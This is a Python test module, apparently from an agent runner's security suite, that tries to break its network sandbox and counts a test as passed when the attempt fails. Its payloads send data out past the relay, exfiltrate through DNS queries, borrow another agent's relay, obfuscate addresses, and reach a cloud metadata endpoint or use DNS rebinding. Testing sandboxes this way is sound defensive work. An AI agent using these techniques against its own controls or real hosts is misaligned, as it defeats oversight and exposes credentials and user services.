# SPDX-License-Identifier: Apache-2.0
"""Beyond `network: endpoint` and `network: none`."""
import contextlib
import os
import select
import socket
import subprocess

from attack import NotTried, attack

KEPT_IN = "kelp-relay: a network namespace or Landlock"
NAMESPACE = "user namespaces, or root, for those without Landlock 4"
SOCKETS_SHUT = "seccomp"

# What agents try, in words that follow `python3 -c`. Each ends as soon as it has done its worst.
TCP = "import socket; socket.create_connection(('{}', {}), 5).sendall(b'out')"
UDP = """import socket
s = socket.socket(socket.{}, socket.SOCK_DGRAM)
s.sendto(b'\\x12\\x34\\x01\\0\\0\\1\\0\\0\\0\\0\\0\\0\\3out\\0\\0\\1\\0\\1', ('{}', {}))"""
RAW = """import socket
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, {})
s.sendto(b'out', ('127.0.0.1', 0))"""
PROXY = """import os, socket
url = os.environ.get('HTTP_PROXY')
proxy = ('127.0.0.1', int(url.rpartition(':')[2])) if url else ('{address}', {port})
s = socket.create_connection(proxy, 5)
s.sendall(b'{method} {scheme}{name}:{port}{path} HTTP/1.1\\r\\n\\r\\n')
s.recv(1000)
s.sendall(b'out')"""
EXPERIMENTAL = (253, 254)  # protocols' numbers for tests, RFC 3692


def python(code):
    return f'python3 -c "{code}"'


def sandbox(arena, network, *hosts, **more):
    """The plan's key; without protection it is left to the arena."""
    return {} if arena.control else {"sandbox": {"network": network, "hosts": list(hosts), **more}}


def listener(kind, address, family=socket.AF_INET):
    server = socket.socket(family, kind)
    try:
        server.bind(address)
    except OSError as why:
        raise NotTried(f"no such address here: {why}") from None
    if kind == socket.SOCK_STREAM:
        server.listen()
    return server


def heard(server):
    return bool(select.select([server], [], [], 0.5)[0])


def reaches(arena, server, script, network="endpoint"):
    """True if what an agent sends arrives at a server of the user's, which it may not reach."""
    with server:
        arena.agents(script, **sandbox(arena, network))
        return heard(server)


def stream_attack(arena, network, host, family):
    server = listener(socket.SOCK_STREAM, (host, 0), family)
    return reaches(arena, server, python(TCP.format(host, server.getsockname()[1])), network)


@attack("connect past the relay", by=KEPT_IN, needs=NAMESPACE)
def past_relay(arena):
    """A plain TCP connection to a server of the user's, which the plan does not name."""
    return stream_attack(arena, "endpoint", "127.0.0.1", socket.AF_INET)


@attack("connect past the relay by IPv6", by=KEPT_IN, needs=NAMESPACE)
def past_relay_ipv6(arena):
    """The same to ::1."""
    return stream_attack(arena, "endpoint", "::1", socket.AF_INET6)


@attack("connect with network: none", by=SOCKETS_SHUT)
def connect_none(arena):
    """A plain TCP connection where there is to be none."""
    return stream_attack(arena, "none", "127.0.0.1", socket.AF_INET)


def datagram_attack(arena, network, host, family):
    server = listener(socket.SOCK_DGRAM, (host, 0), family)
    script = python(UDP.format(family.name, host, server.getsockname()[1]))
    return reaches(arena, server, script, network)


@attack("ask a DNS server past the relay", by=KEPT_IN, needs=NAMESPACE)
def dns(arena):
    """Names of questions carry data away: a datagram with one to a server of the user's."""
    return datagram_attack(arena, "endpoint", "127.0.0.1", socket.AF_INET)


@attack("ask a DNS server by IPv6", by=KEPT_IN, needs=NAMESPACE)
def dns_ipv6(arena):
    """The same to ::1."""
    return datagram_attack(arena, "endpoint", "::1", socket.AF_INET6)


@attack("ask a DNS server with network: none", by=SOCKETS_SHUT)
def dns_none(arena):
    """The same where there is to be no network at all."""
    return datagram_attack(arena, "none", "127.0.0.1", socket.AF_INET)


@attack("send by a raw socket", by=KEPT_IN, users=("root",))
def raw_socket(arena):
    """Root makes packets of a protocol that is neither TCP nor UDP."""
    protocol = EXPERIMENTAL[arena.control]  # the control may run beside it
    server = socket.socket(socket.AF_INET, socket.SOCK_RAW, protocol)
    return reaches(arena, server, python(RAW.format(protocol)))


def unix_attack(arena, network, abstract):
    path = str(arena.out / "s")
    address = b"\0" + str(arena.folder).encode()[-90:] if abstract else path
    server = listener(socket.SOCK_STREAM, address, socket.AF_UNIX)
    if not abstract and arena.drops_root():
        os.chown(path, 65534, 65534)
    said = "@" + address[1:].decode() if abstract else path
    return reaches(arena, server, f'"$REACH" connect "{said}"', network)


@attack("connect to a socket with a path below the relay", by=SOCKETS_SHUT)
def path_endpoint(arena):
    """A database or a container engine of the user's does what it is told there."""
    return unix_attack(arena, "endpoint", False)


@attack("connect to an abstract socket below the relay", by=SOCKETS_SHUT)
def abstract_endpoint(arena):
    """The same by a name that is no file."""
    return unix_attack(arena, "endpoint", True)


@attack("connect to a socket with a path with network: none", by=SOCKETS_SHUT)
def path_none(arena):
    """The same where there is to be no network at all."""
    return unix_attack(arena, "none", False)


@attack("connect to an abstract socket with network: none", by=SOCKETS_SHUT)
def abstract_none(arena):
    """The same where there is to be no network at all."""
    return unix_attack(arena, "none", True)


@attack("use the relay of another agent", by=KEPT_IN, needs=NAMESPACE)
def siblings_relay(arena):
    """An agent that may reach a server tells its relay's port to one that may not. Without protection
    the first makes a server of its own, which the other reaches."""
    server = listener(socket.SOCK_STREAM, ("127.0.0.1", 0))
    port = server.getsockname()[1]
    lends = python("""import os, socket, time
url = os.environ.get('HTTP_PROXY')
own = None if url else socket.create_server(('127.0.0.1', 0))
port = own.getsockname()[1] if own else int(url.rpartition(':')[2])
out = os.environ['OUT']
open(out + '/port.new', 'w').write(str(port))
os.rename(out + '/port.new', out + '/port')
if own:
    own.settimeout(20)
    own.accept()
    open(out + '/reached', 'w')
end = time.monotonic() + 20
while not os.path.exists(out + '/tried') and time.monotonic() < end:
    time.sleep(0.05)""")
    borrows = f"""wait_for 'test -e "$OUT/port"'
{python(f'''import os, socket
s = socket.create_connection(('127.0.0.1', int(open(os.environ['OUT'] + '/port').read())), 5)
s.sendall(b'GET http://127.0.0.1:{port}/ HTTP/1.1' + bytes([13, 10, 13, 10]))''')}
: >"$OUT/tried\""""
    out = str(arena.out)
    with server:
        keys = sandbox(arena, "endpoint", write=[out])
        plan_of = arena.write_plan

        def write_plan(scripts, **more):
            path = plan_of(scripts, **more)
            if not arena.control:
                text = path.read_text()
                mark = '"title": "agent 1",'
                own = f'"sandbox": {{"hosts": ["127.0.0.1:{port}"]}},'
                path.write_text(text.replace(mark, mark + own))
            return path

        arena.write_plan = write_plan
        arena.agents(lends, borrows, **keys)
        return heard(server) or (arena.out / "reached").exists()


def proxied(method, address, name, port):
    connects = method == "CONNECT"
    return python(PROXY.format(method=method, address=address, name=name, port=port,
                               scheme="" if connects else "http://", path="" if connects else "/"))


@attack("ask the relay for a host that the plan does not name", by="kelp-relay: its list")
def not_listed(arena):
    """By CONNECT, by GET, and by other ways to write the same address."""
    server = listener(socket.SOCK_STREAM, ("127.0.0.1", 0))
    port = server.getsockname()[1]
    ways = [proxied(method, "127.0.0.1", name, port) for method in ("CONNECT", "GET")
            for name in ("127.0.0.1", "localhost", "0.0.0.0", "127.1", "2130706433", "[::ffff:127.0.0.1]",
                         "api.example@127.0.0.1")]
    with server:
        arena.agents("\n".join(ways), **sandbox(arena, "endpoint", "api.example:443",
                                                f"127.0.0.1:{1 + port % 65535}"))
        return heard(server)


# A network and names of which nothing else knows: SERVER stands where the clouds have their metadata,
# and on the loopback interface, and tells by a file that it was reached.
INSIDE = """ip link set lo up && ip addr add 169.254.169.254/32 dev lo &&
    mount --bind "$OUT/hosts" /etc/hosts || exit 99
exec 3<>"$OUT/ready"
python3 -c "$SERVER" & server=$!
read -r ready <&3
"$@"; status=$?
kill $server; exit $status"""
SERVER = """import os, socket
out = os.environ['OUT']
server = socket.create_server(('0.0.0.0', 8099))
open(out + '/ready', 'w').write('ready\\n')
while True:
    connection, _ = server.accept()
    open(out + '/reached', 'a').write('x')
    connection.close()"""


def inside(arena, words):
    """Runs a program as root of that network, or says that there can be none."""
    (arena.out / "hosts").write_text("127.0.0.1 localhost rebound.example\n"
                                     "169.254.169.254 metadata.example\n")
    if not (arena.out / "ready").exists():
        os.mkfifo(arena.out / "ready", 0o666)
    environment = {**arena.environment(), "SERVER": SERVER}
    if arena.drops_root():
        for name in ("hosts", "ready"):
            os.chown(arena.out / name, 65534, 65534)
    process = arena.popen(["unshare", "--map-root-user", "--net", "--mount", "sh", "-c", INSIDE, "inside",
                           *words], env=environment, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    with contextlib.suppress(subprocess.TimeoutExpired):
        process.wait(120)
    if process.poll() is None:
        process.kill()
        raise RuntimeError("the network of its own did not end")
    if process.returncode == 99:
        raise NotTried("no network with addresses of its own can be made here")
    return (arena.out / "reached").exists()


def names_lead_inside(arena, name, address, *hosts):
    ways = "\n".join(proxied(method, address, name, 8099) for method in ("CONNECT", "GET"))
    if arena.shell("unshare --map-root-user --net --mount ip link set lo up").returncode != 0:
        raise NotTried("no network with addresses of its own can be made here")
    plan = arena.write_plan([ways], **sandbox(arena, "endpoint", *hosts))
    return inside(arena, [arena.build / "kelp", "run", "--yes", "--quiet", plan])


@attack("reach a cloud's metadata by the relay", by="kelp-relay: its list")
def metadata(arena):
    """169.254.169.254 gives a machine's credentials away; the plan names another host."""
    return names_lead_inside(arena, "169.254.169.254", "169.254.169.254", "api.example:8099")


@attack("reach a cloud's metadata by a name that is allowed", by="kelp-relay: addresses of names")
def metadata_by_name(arena):
    """Whoever answers for an allowed name says 169.254.169.254."""
    return names_lead_inside(arena, "metadata.example", "169.254.169.254", "metadata.example:8099")


@attack("reach this machine by a name that is allowed", by="kelp-relay: addresses of names")
def rebinding(arena):
    """Whoever answers for an allowed name says 127.0.0.1 (DNS rebinding)."""
    return names_lead_inside(arena, "rebound.example", "127.0.0.1", "rebound.example:8099")
